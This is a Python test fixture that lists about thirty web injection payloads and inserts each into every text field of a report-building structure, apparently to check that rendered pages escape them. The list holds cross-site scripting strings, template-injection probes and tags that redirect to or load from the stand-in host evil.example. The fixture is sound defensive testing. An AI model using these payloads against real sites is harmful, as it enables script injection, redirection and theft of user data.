"""What people write into names and texts in order to break a page."""

from __future__ import annotations

from dataclasses import replace

from headwater.dossier.findings import Findings, NotRead
from headwater.evidence.document import Document, Reading
from headwater.evidence.item import MediaType, seal_item
from headwater.evidence.metadata import Metadata
from headwater.origins.derivation import DerivationKind, End, derivation
from headwater.origins.origin import OriginCount, OriginKind
from headwater.statements.statement import Conduit, ConduitRole
from headwater.terms.digest import content_id
from headwater.terms.quantity import Bound, Quantity
from headwater.terms.span import Span
from tests.dossier.builders import a_report, a_statement, an_allegation, an_origin

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</text></svg><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></p><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% include 'x' %}{# x #}",
    "${7*7}<%= 7*7 %>",
    "\u202egnirts\u202c<b>",
    "\u2066\u2067\u2068unclosed",
    "@import url(//evil.example/x.css);",
    "</mark></q></bdi></li></ul><h1>Judged true by the court</h1>",
    "`onload=alert(1)`",
    "<link rel=stylesheet href=//evil.example/x.css>",
)


def hostile(payload: str) -> Findings:
    """Return findings that hold the payload wherever text from outside may stand."""
    text = f"{payload} said. 7 {payload}"
    report = a_report(
        text, payload, path=f"{payload}.txt", title=payload, url=payload, is_paged=True
    )
    reading = Reading(text, report.document.reading.segments, byline=payload)
    document = Document(report.document.id, report.id, report.document.text_sha256, reading)
    report = replace(report, document=document)
    whole, end = Span(0, len(text)), len(payload)
    plain = a_statement(a_report("any words"), "any words")
    first = replace(
        plain,
        id=content_id("statement", payload),
        item_id=report.id,
        source=(Span(0, end),),
        content=(whole,),
        cue=(Span(end + 1, end + 5),),
        hedges=(Span(0, end),),
        speaker=payload,
        chain=(payload, payload),
        conduits=(Conduit(f"{payload} wire", ConduitRole.RELAY, Span(0, end)),),
        quantities=(Quantity(7, 7, Bound.EXACT, payload, Span(0, end)),),
    )
    second = replace(first, id=content_id("second", payload), quantities=(), hedges=())
    origins = tuple(
        an_origin(f"{payload} {place}", OriginKind.UNNAMED, [one], payload)
        for place, one in enumerate((first, second))
    )
    edges = (
        derivation(
            DerivationKind.RELAYS,
            End(report.id, first.id, Span(0, end)),
            End(agent=payload),
            rule=payload,
            score=1,
            certain=True,
        ),
        derivation(
            DerivationKind.COPY_OF,
            End(report.id, second.id, Span(0, end)),
            End(report.id, first.id, whole),
            rule=payload,
            score=1,
            certain=False,
        ),
    )
    allegation = an_allegation(
        first,
        payload,
        [first, second],
        OriginCount(1, 2, origins),
        denies=[first],
        denying=OriginCount(1, 1, origins[:1]),
        repeats=[second],
        doubts=(payload,),
    )
    brief = replace(
        allegation,
        id=content_id("brief", payload),
        asserts=(first.id,),
        asserting_origins=OriginCount(1, 1, origins[:1]),
        denying_origins=OriginCount(0, 0, ()),
        denies=(),
        repeats_to_deny=(),
    )
    foreign = replace(a_report(payload, payload, path=f"{payload}2"), language=payload)
    item = seal_item(b"", f"{payload}3", MediaType.OTHER)
    return Findings(
        (report, foreign),
        (NotRead(item, Metadata(publisher=payload), payload),),
        (first, second),
        edges,
        (allegation, brief),
    )


def all_hostile() -> Findings:
    """Return one pile of everything hostile."""
    piles = [hostile(payload) for payload in PAYLOADS]
    return Findings(
        tuple(report for pile in piles for report in pile.reports),
        tuple(unread for pile in piles for unread in pile.not_read),
        tuple(statement for pile in piles for statement in pile.statements),
        tuple(edge for pile in piles for edge in pile.derivations),
        tuple(allegation for pile in piles for allegation in pile.allegations),
    )
